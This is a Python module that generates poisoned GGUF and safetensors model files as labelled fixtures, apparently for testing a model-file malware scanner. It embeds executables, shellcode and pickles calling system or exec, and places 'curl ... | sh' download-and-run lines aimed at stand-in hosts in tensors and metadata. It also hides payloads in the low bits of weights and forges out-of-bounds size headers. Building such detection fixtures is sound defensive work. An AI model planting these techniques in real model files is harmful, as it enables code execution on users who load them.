"""GGUF and safetensors: templates, lies about sizes, and what hides between and in the tensors."""

import base64
import json
import struct

from .pickles import Call, G, pickle, system
from .store import rng
from .templates import ATTACKS, POISONED

KINDS = {int: 4, float: 6, bool: 7, str: 8, list: 9}


def string(value):
    data = value if isinstance(value, bytes) else value.encode()
    return struct.pack("<Q", len(data)) + data


def value(each):
    if isinstance(each, bool):
        return struct.pack("<I?", 7, each)
    if isinstance(each, int):
        return struct.pack("<II", 4, each)
    if isinstance(each, float):
        return struct.pack("<If", 6, each)
    if isinstance(each, (str, bytes)):
        return struct.pack("<I", 8) + string(each)
    inner = 8 if each and isinstance(each[0], (str, bytes)) else 0
    packed = b"".join(map(string, each)) if inner else bytes(each)
    return struct.pack("<IIQ", 9, inner, len(each)) + packed


def gguf(pairs, tensors=(), data=b"", counts=None, version=3):
    """A GGUF of these keys, of tensors (name, sides, type, offset), and of `data`."""
    out = b"GGUF" + struct.pack("<IQQ", version, *(counts or (len(tensors), len(pairs))))
    for key, each in pairs:
        out += string(key) + value(each)
    for name, sides, kind, offset in tensors:
        out += string(name) + struct.pack(f"<I{len(sides)}QIQ", len(sides), *sides, kind, offset)
    return out + (bytes(-len(out) % 32) + data if data else b"")


def safetensors(header, data=b"", size=None):
    encoded = header if isinstance(header, bytes) else json.dumps(header, separators=(",", ":")).encode()
    encoded += b" " * (-len(encoded) % 8)
    return struct.pack("<Q", len(encoded) if size is None else size) + encoded + data


def ggufs(corpus):
    def add(kind, data, why, name="model-q4.gguf"):
        corpus.add(kind, "gguf", name, data, why)

    base = [("general.architecture", "llama"), ("general.name", "corpus"), ("llama.block_count", 2), ("tokenizer.ggml.model", "gpt2"), ("tokenizer.ggml.tokens", ["<s>", "a", "b"])]
    for number, (template, why) in enumerate(ATTACKS):
        if number % 2 == 0:
            key = ["tokenizer.chat_template", "tokenizer.chat_template.tool_use", "tokenizer.chat_template.rag"][number // 2 % 3]
            more = [("tokenizer.chat_templates", ["tool_use"])] if key != "tokenizer.chat_template" else []
            add("gguf-template", gguf(base + more + [(key, template)], [("t", (4,), 0, 0)], bytes(32)), f"the template {why}")
    add("poisoned-template", gguf(base + [("tokenizer.chat_template", POISONED[0][0])]), POISONED[0][1])
    tensor = [("blk.0.weight", (64,), 0, 0)]
    elf, chance = rng("gguf"), rng("gguf2")
    from .graphs import ELF
    from .misc_bytes import MACHO, PE
    add("embedded-executable", gguf(base, tensor, ELF + bytes(256)), "a library is the tensor")
    add("embedded-executable", gguf(base, tensor, elf.randbytes(256) + ELF), "a library behind the tensors")
    add("embedded-executable", gguf(base, [("t", (1024,), 0, 0)], chance.randbytes(1500) + PE + chance.randbytes(2596 - len(PE))), "a program in the middle of a tensor")
    add("embedded-executable", gguf(base + [("corpus.blob", list(MACHO))], tensor, bytes(256)), "a program as an array of bytes")
    add("embedded-pickle", gguf(base + [("corpus.state", system("true", 4))], tensor, bytes(256)), "a pickle as a value")
    add("embedded-pickle", gguf(base + [("general.description", base64.b64encode(pickle(Call(G("builtins", "exec"), "pass"), 2)).decode())]), "a pickle in base64 as a value")
    add("embedded-pickle", gguf(base, tensor, rng("g3").randbytes(128) + system("id", 2) + bytes(200)), "a pickle in a tensor")
    add("gguf-bounds", gguf(base, counts=(1 << 62, 5)), "more tensors than fit in memory")
    add("gguf-bounds", gguf(base, counts=(0, 1 << 61)), "more keys than fit in memory")
    add("gguf-bounds", gguf(base, [("t", (1 << 33, 1 << 33), 0, 0)], bytes(64)), "a tensor whose size overflows")
    add("gguf-bounds", gguf(base, [("t", (64,), 0, 1 << 50)], bytes(64)), "a tensor far out of the file")
    add("gguf-bounds", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 63) + b"general.name", "a key longer than the file")
    add("gguf-bounds", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + string("x") + struct.pack("<IIQ", 9, 8, 1 << 60), "an array longer than the file")


def tensors(corpus):
    def add(kind, data, why, name="model.safetensors", label="malicious"):
        corpus.add(kind, "safetensors", name, data, why, label)

    from .graphs import ELF
    from .misc_bytes import MACHO, PE, SHELLCODE
    chance = rng("st")
    one = {"w": {"dtype": "U8", "shape": [256], "data_offsets": [0, 256]}}
    add("safetensors-gap", safetensors(one, chance.randbytes(256) + system("true", 4)), "a pickle behind the tensors")
    add("safetensors-gap", safetensors(one, chance.randbytes(256) + b"#!/bin/sh\ntrue\n"), "a script behind the tensors")
    add("safetensors-gap", safetensors({"a": {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}, "b": {"dtype": "U8", "shape": [64], "data_offsets": [64 + len(ELF), 128 + len(ELF)]}}, bytes(64) + ELF + bytes(64)), "a library between two tensors")
    add("safetensors-gap", safetensors({"a": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}, "b": {"dtype": "F32", "shape": [16], "data_offsets": [32, 96]}}, bytes(96)), "two tensors overlap", label="suspicious")
    add("safetensors-gap", safetensors({"a": {"dtype": "F32", "shape": [1 << 40], "data_offsets": [0, 1 << 42]}}, bytes(64)), "a tensor far out of the file", label="suspicious")
    add("safetensors-gap", safetensors(b'{"w":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"w":{"dtype":"U8","shape":[4],"data_offsets":[4,8]}}', bytes(8)), "a tensor that is there twice", label="suspicious")
    add("safetensors-gap", safetensors(one, bytes(256), size=1 << 60), "a header longer than the file", label="suspicious")
    for number, (where, what) in enumerate([(0, ELF), (0, PE), (0, MACHO), (333, ELF), (700, PE), (512, MACHO), (64, b"#!/bin/bash\ncurl -s http://corpus.example/x | bash\n")]):
        data = chance.randbytes(where) + what
        data += chance.randbytes(2048 - len(data))
        add("embedded-executable", safetensors({"w": {"dtype": "F32", "shape": [16, 32], "data_offsets": [0, 2048]}}, data), f"a program at byte {where} of a tensor")
    add("embedded-pickle", safetensors({"w": {"dtype": "U8", "shape": [300], "data_offsets": [0, 300]}}, system("echo tensor", 4).ljust(300, b"\0")), "a pickle is the tensor")
    add("embedded-pickle", safetensors({"__metadata__": {"state": base64.b64encode(system("id", 4)).decode()}, **one}, bytes(256)), "a pickle in the metadata")
    add("safetensors-metadata", safetensors({"__metadata__": {"init": "__import__('os').system('true')"}, **one}, bytes(256)), "code in the metadata")
    add("safetensors-metadata", safetensors({"__metadata__": {"cmd": "curl http://10.9.8.7/x.sh | sh"}, **one}, chance.randbytes(256)), "a command in the metadata")
    payloads = [ELF, system("true", 4), SHELLCODE, b"#!/bin/sh\ncurl http://corpus.example/stage | sh\n" * 3]
    for number, payload in enumerate(payloads):
        size, step = 4096, [4, 1, 4, 8][number]
        raw = bytearray(struct.pack(f"<{size}f", *[chance.gauss(0, 0.04) for _ in range(size)])) if step != 1 else bytearray(chance.randbytes(size))
        bits = "".join(f"{byte:08b}" for byte in struct.pack("<I", len(payload)) + payload)
        if number % 2 == 0:
            for index, byte in enumerate(payload):
                raw[index * step] = byte
            why = "the low bytes of the weights are a program"
        else:
            for index, bit in enumerate(bits):
                raw[index * step] = raw[index * step] & 0xFE | int(bit)
            why = "the low bits of the weights are a payload"
        kind = "F32" if step != 1 else "U8"
        add("low-bits", safetensors({"w": {"dtype": kind, "shape": [len(raw) // (4 if step != 1 else 1)], "data_offsets": [0, len(raw)]}}, bytes(raw)), why)


def make(corpus):
    ggufs(corpus)
    tensors(corpus)
